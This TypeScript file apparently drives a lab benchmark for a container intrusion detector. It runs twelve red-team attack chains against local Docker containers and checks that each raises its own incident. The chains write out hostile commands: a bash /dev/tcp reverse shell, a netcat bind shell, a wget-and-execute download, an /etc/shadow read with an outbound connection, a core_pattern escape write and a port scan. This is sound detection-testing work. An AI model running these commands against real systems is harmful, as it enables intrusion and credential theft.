/**
 * The lab's depot (lab/depot/compose.yaml) and the red team's trial of it: a
 * real defender learns the depot under its normal load — healthchecks, a
 * busybox helper's periodic jobs, log writes and temporary files — then the
 * load goes on (nothing is to be reported), then twelve attack chains run one
 * after the other, each of which is to be told by its own rule as its own
 * incident. The lab test (test/lab/attack-chains.test.ts) runs one trial;
 * bench/attack-chains runs five with ten minutes of normal load, and
 * bench/learn-convergence compares learning that ends on convergence with a
 * fixed window. Needs the lab (root, `npm run lab:up`).
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import type { Audit, Incident, IntentModel } from '../src/model/index.ts';
import { DOCKER, LAB_IMAGES, LAB_LABEL } from './lab.ts';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
const BIN = join(ROOT, 'bin', 'tenet.js');
export const DEPOT_COMPOSE = join(ROOT, 'lab', 'depot', 'compose.yaml');
const PROJECT = 'depot';
/** The network compose makes for the file's `depot` network. */
const NETWORK = `${PROJECT}_depot`;
/** The depot's services: each container's audits and incidents are the trial's. */
export const DEPOT_SERVICES = ['web', 'api', 'worker', 'redis', 'helper'] as const;
type Service = (typeof DEPOT_SERVICES)[number];

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const docker = (...args: string[]) => execFileSync(DOCKER, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
const quiet = (...args: string[]) => spawnSync(DOCKER, args, { stdio: 'ignore', timeout: 30_000 });
/** `docker exec` that may fail: an attack refused or cut short is still an attack. */
const attempt = (...args: string[]) => spawnSync(DOCKER, ['exec', ...args], { stdio: 'ignore', timeout: 15_000 });

/** Compose as this machine has it: the `docker compose` plugin, or the older `docker-compose`. */
function compose(...args: string[]): void {
  const plugin = spawnSync(DOCKER, ['compose', 'version'], { stdio: 'ignore' }).status === 0;
  const [command, first] = plugin ? [DOCKER, ['compose']] : ['docker-compose', []];
  const result = spawnSync(command, [...first, '-f', DEPOT_COMPOSE, '-p', PROJECT, ...args], { encoding: 'utf8', timeout: 120_000 });
  if (result.status !== 0) throw new Error(`compose ${args.join(' ')}: ${result.stderr}`);
}

/** A service's container, by compose's labels (compose names it depot-web-1 or depot_web_1 by its version). */
export function depotContainer(service: Service): string {
  const id = docker('ps', '-q', '--filter', `label=com.docker.compose.project=${PROJECT}`, '--filter', `label=com.docker.compose.service=${service}`);
  if (id === '') throw new Error(`no container of the depot's ${service}`);
  return docker('inspect', '-f', '{{.Name}}', id.split('\n')[0]!).replace(/^\//, '');
}

const address = (name: string) => docker('inspect', '-f', `{{(index .NetworkSettings.Networks "${NETWORK}").IPAddress}}`, name);

/** Removes the depot, the attackers' containers and the network. */
export function stopDepot(): void {
  spawnSync('docker-compose', ['-f', DEPOT_COMPOSE, '-p', PROJECT, 'down', '-t', '1'], { stdio: 'ignore', timeout: 60_000 });
  spawnSync(DOCKER, ['compose', '-f', DEPOT_COMPOSE, '-p', PROJECT, 'down', '-t', '1'], { stdio: 'ignore', timeout: 60_000 });
  for (const label of [`com.docker.compose.project=${PROJECT}`, `${LAB_LABEL}=depot`]) {
    const ids = spawnSync(DOCKER, ['ps', '-aq', '--filter', `label=${label}`], { encoding: 'utf8' }).stdout.split('\n').filter(Boolean);
    if (ids.length > 0) quiet('rm', '-f', ...ids);
  }
  quiet('network', 'rm', NETWORK);
}

/** The attackers' hosts on the depot's network: a C2 listening on 4444 and 8443, a mining pool on 3333, a download server on 8000. */
interface Attackers {
  c2: string;
  pool: string;
  dl: string;
}

function startAttackers(): Attackers {
  const run = (name: string, script: string) => docker('run', '-d', '--label', `${LAB_LABEL}=depot`, '--name', `depot-${name}`, '--network', NETWORK, LAB_IMAGES.busybox, 'sh', '-c', script);
  run('c2', 'while true; do nc -l -p 4444 < /dev/null; done & while true; do nc -l -p 8443 < /dev/null; done');
  run('pool', 'while true; do nc -l -p 3333 < /dev/null; done');
  run('dl', 'mkdir -p /www && cp /bin/busybox /www/x && httpd -f -p 8000 -h /www');
  return { c2: address('depot-c2'), pool: address('depot-pool'), dl: address('depot-dl') };
}

/** One attack chain: where it happens, the incident pattern and the rule it must be told by, and how it is done. */
export interface Chain {
  name: string;
  service: Service;
  pattern: string;
  rule: string;
  run: (a: Attackers, c: (s: Service) => string) => void | Promise<void>;
}

/** The red team's twelve chains, in the order they run. */
export const CHAINS: readonly Chain[] = [
  { name: 'shell', service: 'api', pattern: 'shell-in-container', rule: 'unexpected-process', run: (_, c) => void attempt(c('api'), 'sh', '-c', 'id; uname -a') },
  {
    name: 'reverse shell', service: 'web', pattern: 'reverse-shell', rule: 'reverse-shell',
    run: (a, c) => void attempt(c('web'), 'bash', '-c', `bash -i >& /dev/tcp/${a.c2}/4444 0>&1`),
  },
  {
    name: 'download and execute', service: 'helper', pattern: 'dropped-program', rule: 'drift',
    run: (a, c) => void attempt(c('helper'), 'sh', '-c', `wget -q -O /tmp/x http://${a.dl}:8000/x && chmod +x /tmp/x && /tmp/x true`),
  },
  {
    name: 'credentials read and sent', service: 'api', pattern: 'credential-exfiltration', rule: 'sensitive-read',
    run: (a, c) => void attempt('-u', '0', c('api'), 'sh', '-c', `cat /etc/shadow > /dev/null; node -e "require('net').connect(4444, '${a.c2}').on('error', () => {})"`),
  },
  {
    name: 'miner', service: 'worker', pattern: 'crypto-mining', rule: 'crypto-miner',
    run: (a, c) => {
      quiet('cp', '/bin/busybox', `${c('worker')}:/tmp/busybox`);
      attempt(c('worker'), '/tmp/busybox', 'nc', '-w', '1', a.pool, '3333');
    },
  },
  { name: 'package manager', service: 'worker', pattern: 'tooling-in-container', rule: 'package-manager-or-compiler', run: (_, c) => void attempt(c('worker'), 'apt-get', '--version') },
  {
    name: 'escape attempt', service: 'api', pattern: 'container-escape', rule: 'container-escape',
    run: (_, c) => void attempt('-u', '0', c('api'), 'sh', '-c', 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern'),
  },
  {
    name: 'lateral movement through the flaw', service: 'web', pattern: 'lateral-movement', rule: 'lateral-movement',
    run: async (_, c) => {
      await fetch(`http://${address(c('web'))}:8080/debug/connect?to=${address(c('redis'))}:6379`, { signal: AbortSignal.timeout(10_000) }).then((r) => r.text(), () => '');
    },
  },
  {
    // busybox's shell runs nc again through /proc/self/exe, as `nc`: a relay running a shell on a socket
    name: 'bind shell', service: 'helper', pattern: 'reverse-shell', rule: 'reverse-shell',
    run: (_, c) => void attempt(c('helper'), 'sh', '-c', 'nc -l -p 4445 -e /bin/sh & p=$!; sleep 2; kill $p'),
  },
  {
    name: 'contact with listed infrastructure', service: 'worker', pattern: 'command-and-control', rule: 'threat-intel-peer',
    run: (a, c) => void attempt(c('worker'), 'node', '-e', `require('net').connect(8443, '${a.c2}').on('error', () => {})`),
  },
  {
    name: 'write to a system folder', service: 'api', pattern: 'system-files-changed', rule: 'unexpected-write',
    run: (_, c) => void attempt('-u', '0', c('api'), 'sh', '-c', 'echo x > /usr/local/bin/update-helper'),
  },
  {
    name: 'port scan', service: 'helper', pattern: 'port-scan', rule: 'port-scan',
    run: (_, c) => void attempt(c('helper'), 'sh', '-c', `for p in $(seq 6370 6399); do timeout 1 nc -w 1 ${address(c('redis'))} $p < /dev/null; done`),
  },
];

export interface TrialOptions {
  /** `--learn-for`, in seconds (the cap when learning converges). */
  learnSec: number;
  /** Whether learning may end on convergence (false: `--no-converge`). */
  converge: boolean;
  /** Normal load after every model is active, before any attack, in seconds. */
  normalSec: number;
  /** Run the attack chains after the normal load. */
  attacks: boolean;
  /** Seconds between two chains. */
  spacingSec?: number;
  log?: (line: string) => void;
}

export interface Trial {
  /** Seconds from the depot's start until each service's model was active, and what ended its learning. */
  active: Record<Service, { sec: number; by: string }>;
  /** The depot's audits and incidents during the normal load after learning. */
  normal: { audits: Audit[]; incidents: Incident[] };
  /** The depot's audits and incidents from the first attack on. */
  attacked: { audits: Audit[]; incidents: Incident[] };
}

/**
 * One trial: a defender (`tenet defender`, its sensor and all) and the depot
 * started, learned under load, the normal load for `normalSec`, then the
 * chains; everything it started is stopped, on failure too.
 */
export async function trial(options: TrialOptions): Promise<Trial> {
  const log = options.log ?? (() => {});
  const work = mkdtempSync(join(tmpdir(), 'tenet-depot-'));
  const data = join(work, 'data');
  stopDepot();
  const args = ['defender', '--learn-for', `${options.learnSec}s`, '--data', data, ...(options.converge ? [] : ['--no-converge'])];
  const defender = spawn(process.execPath, [BIN, ...args], { stdio: ['ignore', 'pipe', 'pipe'], detached: true });
  const lines: string[] = [];
  const audits: Array<{ audit: Audit; at: number }> = [];
  createInterface({ input: defender.stdout! }).on('line', (line) => audits.push({ audit: JSON.parse(line) as Audit, at: Date.now() }));
  createInterface({ input: defender.stderr! }).on('line', (line) => lines.push(line));
  const tenet = (...a: string[]) => execFileSync(process.execPath, [BIN, ...a, '--data', data], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
  let load: (() => Promise<void>) | undefined;
  try {
    await until('the defender runs', () => lines.some((l) => l.includes('defender running')), 60_000, () => lines.join('\n'));
    compose('up', '-d');
    const started = Date.now();
    const attackers = startAttackers();
    writeFileSync(join(work, 'c2.csv'), `ip,category,score,first_seen,last_seen,ports\n${attackers.c2},c2,95,2026-01-01,2026-11-01,4444\n`);
    tenet('intel', 'load', join(work, 'c2.csv'));
    const names = Object.fromEntries(DEPOT_SERVICES.map((s) => [s, depotContainer(s)])) as Record<Service, string>;
    const web = address(names.web);
    await until('the front end answers', async () => (await fetch(`http://${web}:8080/`, { signal: AbortSignal.timeout(3000) }).catch(() => undefined))?.ok === true, 60_000);
    load = shopping(web);

    // learning, under the depot's own load
    const active = {} as Trial['active'];
    const images = Object.fromEntries(DEPOT_SERVICES.map((s) => [s, docker('inspect', '-f', '{{.Image}}', names[s])])) as Record<Service, string>;
    await until('every model of the depot active', () => {
      const models = JSON.parse(tenet('models', '--format', 'json')) as IntentModel[];
      for (const s of DEPOT_SERVICES) {
        const m = models.find((x) => x.id === images[s]);
        if (m?.state === 'active' && active[s] === undefined) active[s] = { sec: Math.round((Date.now() - started) / 1000), by: m.learning?.convergence?.by ?? 'window' };
      }
      return DEPOT_SERVICES.every((s) => active[s] !== undefined);
    }, (options.learnSec + 120) * 1000, () => tenet('status'));
    log(`learned: ${DEPOT_SERVICES.map((s) => `${s} ${active[s].sec} s (${active[s].by})`).join(', ')}`);

    const ours = (a: { audit: Audit }) => (DEPOT_SERVICES as readonly string[]).some((s) => names[s as Service] === a.audit.container.name);
    const storyOf = (from: number, to: number) => (JSON.parse(tenet('incidents', '--format', 'json', '--limit', '10000')) as Incident[])
      .filter((i) => Object.values(names).includes(i.container.name ?? '') && Date.parse(i.firstSeen) >= from && Date.parse(i.firstSeen) < to);
    const normalFrom = Date.now();
    await sleep(options.normalSec * 1000);
    const normalTo = Date.now();
    const normal = { audits: audits.filter((a) => ours(a) && a.at >= normalFrom && a.at < normalTo).map((a) => a.audit), incidents: storyOf(normalFrom, normalTo) };
    log(`normal load for ${options.normalSec} s: ${normal.audits.length} audits, ${normal.incidents.length} incidents`);

    const attacked = { audits: [] as Audit[], incidents: [] as Incident[] };
    if (options.attacks) {
      const from = Date.now();
      for (const chain of CHAINS) {
        await chain.run(attackers, (s) => names[s]);
        await sleep((options.spacingSec ?? 5) * 1000);
      }
      await sleep(5000);
      attacked.audits = audits.filter((a) => ours(a) && a.at >= from).map((a) => a.audit);
      attacked.incidents = storyOf(from, Infinity);
      log(`attacks: ${attacked.audits.length} audits, ${attacked.incidents.length} incidents`);
    }
    return { active, normal, attacked };
  } finally {
    await load?.();
    if (defender.exitCode === null) {
      process.kill(-defender.pid!, 'SIGTERM');
      await Promise.race([new Promise((r) => defender.once('close', r)), sleep(20_000)]);
      if (defender.exitCode === null) process.kill(-defender.pid!, 'SIGKILL');
    }
    stopDepot();
    rmSync(work, { recursive: true, force: true });
  }
}

/** The depot's normal workload, until stopped: the front end asked for its API page again and again. */
function shopping(web: string): () => Promise<void> {
  let going = true;
  const done = (async () => {
    while (going) {
      await fetch(`http://${web}:8080/api/cart`, { signal: AbortSignal.timeout(3000) }).then((r) => r.text(), () => '');
      await sleep(100);
    }
  })();
  return async () => {
    going = false;
    await done;
  };
}

async function until(what: string, check: () => boolean | Promise<boolean>, timeoutMs: number, explain: () => string = () => ''): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`${what}: not within ${timeoutMs} ms\n${explain()}`);
    await sleep(500);
  }
}
